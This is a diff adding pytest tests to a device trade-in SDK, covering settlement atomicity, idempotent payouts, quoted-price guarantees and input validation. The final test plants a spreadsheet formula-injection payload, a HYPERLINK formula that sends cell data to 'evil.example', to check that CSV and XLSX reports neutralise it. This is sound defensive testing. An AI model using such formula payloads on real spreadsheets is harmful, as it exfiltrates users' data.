@@ -16,6 +16,7 @@ import subprocess
 from decimal import Decimal
 from typing import TYPE_CHECKING, Any
 
+import attrs
 import openpyxl
 import pypdf
 import pytest
@@ -24,7 +25,7 @@ from stdnum import luhn
 
 from tradein_sdk import FixedClock, TradeIn
 from tradein_sdk._adapters.credit_note_documents import extract_credit_note_xml, validate_credit_note_xml
-from tradein_sdk._app.fleet import _line_json_text, lines_digest
+from tradein_sdk._app.fleet import FleetUseCases, _line_json_text, lines_digest
 from tradein_sdk._domain.credit_notes import Party, SelfBillingAgreement
 from tradein_sdk._domain.fleet import (
     Address,
@@ -33,6 +34,7 @@ from tradein_sdk._domain.fleet import (
     LineStatus,
     add_working_days,
     check_vat_id,
+    grade_answers,
 )
 from tradein_sdk._domain.ledger import EntryKind
 from tradein_sdk._domain.orders.vocabulary import DeviceState
@@ -45,8 +47,10 @@ from tradein_sdk._errors import (
     BatchStateError,
     CreditNoteError,
     FleetError,
+    IllegalTransitionError,
     InvalidVatIdError,
     PickupTooSmallError,
+    PriceUnavailableError,
 )
 from tradein_sdk._ports import Ledger
 from tradein_sdk.testing import example_erasure_report
@@ -556,3 +560,166 @@ def test_the_settled_batch_is_told_by_webhook(tmp_path: Path, clock: FixedClock)
         assert told[0]["data"]["document"]["number"].startswith("GS-")
     finally:
         trade_in.close()
+
+
+# -- what a review found: each defect shown, then held ------------------------------------------------------
+
+
+def settle_ready(trade_in: TradeIn, company_id: str, *, devices: int = 4, missing: int = 0) -> str:
+    """A batch quoted, booked, handed over, received (``missing`` lines not in the boxes) and inspected."""
+    portfolio = trade_in.fleet_quote(company_id, asset_csv(twenty_five(trade_in)[:devices]))
+    batch_id = portfolio.batch_id or ""
+    trade_in.book_pickup(batch_id, boxes=1, seals=["S-1"], payout=BANK)
+    batch = trade_in.hand_over(batch_id, seals=["S-1"], carrier="GLS")
+    trade_in.receive_batch(batch_id, [view.line.imei or "" for view in batch.lines[missing:]])
+    inspect_all(trade_in, batch_id, downgraded=set(), locked=set())
+    return batch_id
+
+
+def paid_entries(trade_in: TradeIn, batch_id: str) -> list[Any]:
+    """The payout entries of a batch's order."""
+    order_id = trade_in.fleet_batch(batch_id).order_id or ""
+    store = trade_in.store
+    assert isinstance(store, Ledger)
+    return [entry for entry in store.ledger_entries(order_id) if entry.kind is EntryKind.PAYOUT_MADE]
+
+
+def test_nothing_is_paid_or_numbered_when_the_credit_note_cannot_be_issued(trade_in: TradeIn) -> None:
+    """The document is built and checked before any money moves (an issuer's malformed VAT id)."""
+    batch_id = settle_ready(trade_in, open_company(trade_in))
+    with pytest.raises(CreditNoteError):
+        trade_in.settle_batch(batch_id, issuer=attrs.evolve(ISSUER, vat_id="DE 13669597"))
+    assert trade_in.fleet_batch(batch_id).state is BatchState.RECEIVED
+    assert paid_entries(trade_in, batch_id) == []
+    settled = trade_in.settle_batch(batch_id, issuer=ISSUER)
+    assert settled.settlement is not None
+    assert settled.settlement["document"]["number"] == "GS-2026-000001"  # no number spent on the failure
+
+
+def test_a_batch_with_nothing_to_pay_closes_without_a_document(trade_in: TradeIn) -> None:
+    """Every device missing: the batch settles at zero, with no credit note and no number spent."""
+    batch_id = settle_ready(trade_in, open_company(trade_in), missing=4)
+    settled = trade_in.settle_batch(batch_id, issuer=ISSUER)
+    assert settled.state is BatchState.SETTLED
+    assert settled.settlement is not None
+    assert settled.settlement["document"] is None
+    assert settled.settlement["amount"]["amount"] == "0"
+    assert {document.kind for document in trade_in.fleet_documents(batch_id)} == {"handover_record"}
+
+
+def test_a_settlement_cut_short_after_paying_finishes_on_the_next_call(
+    trade_in: TradeIn, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Paid, then the document fails: the batch stays ``settling``; the next call issues it, paying once."""
+    batch_id = settle_ready(trade_in, open_company(trade_in))
+    issue = FleetUseCases._issue_settlement_documents
+    calls = []
+
+    def failing_once(self: FleetUseCases, *args: Any, **kwargs: Any) -> Any:  # noqa: ANN401
+        calls.append(1)
+        if len(calls) == 1:
+            raise OSError("disk full")
+        return issue(self, *args, **kwargs)
+
+    monkeypatch.setattr(FleetUseCases, "_issue_settlement_documents", failing_once)
+    with pytest.raises(OSError, match="disk full"):
+        trade_in.settle_batch(batch_id, issuer=ISSUER)
+    assert trade_in.fleet_batch(batch_id).state is BatchState.SETTLING
+    assert len(paid_entries(trade_in, batch_id)) == 4
+    settled = trade_in.settle_batch(batch_id, issuer=ISSUER)
+    assert settled.state is BatchState.SETTLED
+    assert len(paid_entries(trade_in, batch_id)) == 4  # paid once
+    assert settled.settlement is not None
+    assert settled.settlement["document"]["number"] == "GS-2026-000001"
+
+
+def test_a_pickup_booked_weeks_later_keeps_the_guaranteed_amounts(
+    trade_in: TradeIn, clock: FixedClock
+) -> None:
+    """Booked 20 days after the quote, over a month's end: each device at its quoted amount (not re-aged)."""
+    company_id = open_company(trade_in)
+    portfolio = trade_in.fleet_quote(company_id, asset_csv(twenty_five(trade_in)[:10]))
+    clock.advance(days=20)
+    booked = trade_in.book_pickup(portfolio.batch_id or "", boxes=1, seals=["S-1"], payout=BANK)
+    order = trade_in.order(booked.order_id or "")
+    assert [device.quoted for device in order.devices] == [line.amount for line in portfolio.lines]
+
+
+def test_receiving_the_boxes_is_all_or_nothing(trade_in: TradeIn) -> None:
+    """A device that cannot be received (cancelled meanwhile) refuses the whole receipt: nothing half-done."""
+    company_id = open_company(trade_in)
+    portfolio = trade_in.fleet_quote(company_id, asset_csv(twenty_five(trade_in)[:4]))
+    batch_id = portfolio.batch_id or ""
+    booked = trade_in.book_pickup(batch_id, boxes=1, seals=["S-1"], payout=BANK)
+    trade_in.hand_over(batch_id, seals=["S-1"], carrier="GLS")
+    trade_in.record_event(booked.order_id or "", "d3", "cancel", actor="staff")
+    with pytest.raises(IllegalTransitionError):
+        trade_in.receive_batch(batch_id, [view.line.imei or "" for view in booked.lines])
+    batch = trade_in.fleet_batch(batch_id)
+    assert batch.state is BatchState.PICKED_UP
+    assert [view.state for view in batch.lines] == [
+        DeviceState.AWAITING_SHIPMENT,
+        DeviceState.AWAITING_SHIPMENT,
+        DeviceState.CANCELLED,
+        DeviceState.AWAITING_SHIPMENT,
+    ]
+
+
+def test_bad_company_and_list_input_is_typed(trade_in: TradeIn) -> None:
+    """A regular seller abroad, a price factor of NaN, an unknown default grade, a device without a price."""
+    with pytest.raises(FleetError, match="intra-Community"):
+        trade_in.open_company(
+            "Wien GmbH",
+            Address(street="Ring 1", postcode="1010", city="Wien", country="AT"),
+            vat_status="regular",
+            vat_id="ATU13585627",
+            contract=contract(),
+        )
+    with pytest.raises(FleetError, match="price factor"):
+        contract(price_factor=Decimal("NaN"))
+    company_id = open_company(trade_in)
+    rows = twenty_five(trade_in)[:5]
+    with pytest.raises(FleetError, match="default grade"):
+        trade_in.fleet_quote(company_id, asset_csv(rows), default_grade="mint")
+    unpriced = next(
+        variant.id
+        for model in trade_in.catalog.models
+        for variant in model.variants
+        if model.category.value == "smartphone" and not _priced(trade_in, variant.id)
+    )
+    rows[1]["model"] = unpriced
+    with pytest.raises(AssetImportError) as refused:
+        trade_in.fleet_quote(company_id, asset_csv(rows))
+    assert [(problem.row, problem.code) for problem in refused.value.problems] == [(3, "no_price")]
+    quoted = trade_in.fleet_quote(company_id, asset_csv(rows), skip_invalid=True)
+    assert [line.row for line in quoted.lines] == [2, 4, 5, 6]
+    assert [line.line for line in quoted.lines] == [1, 2, 3, 4]
+
+
+def _priced(trade_in: TradeIn, variant_id: str) -> bool:
+    try:
+        trade_in.quote(variant_id, grade_answers_for(trade_in, variant_id))
+    except PriceUnavailableError:
+        return False
+    return True
+
+
+def grade_answers_for(trade_in: TradeIn, variant_id: str) -> dict[str, object]:
+    """Self-declared answers of a good device of this variant."""
+    model = trade_in.catalog.lookup(variant_id).model
+    return grade_answers(trade_in.questionnaire(model.category.value), model, "good")
+
+
+def test_the_report_never_hands_a_spreadsheet_a_formula(trade_in: TradeIn) -> None:
+    """An asset tag that reads as a formula is written as text (CSV and XLSX)."""
+    company_id = open_company(trade_in)
+    rows = twenty_five(trade_in)[:4]
+    rows[0]["asset_tag"] = '=HYPERLINK("http://evil.example/?"&A1)'
+    rows[1]["cost_centre"] = "@SUM(1)"
+    batch_id = trade_in.fleet_quote(company_id, asset_csv(rows)).batch_id or ""
+    text = trade_in.fleet_report_file(batch_id, format="csv").decode()
+    assert "\\n=" not in text.replace("\\r\\n", "\\n").replace(",", "\\n")
+    workbook = openpyxl.load_workbook(io.BytesIO(trade_in.fleet_report_file(batch_id, format="xlsx")))
+    sheet_cells = [cell for row in workbook["Devices"].iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in sheet_cells)
+    assert workbook["Devices"]["B2"].value.startswith("'=")
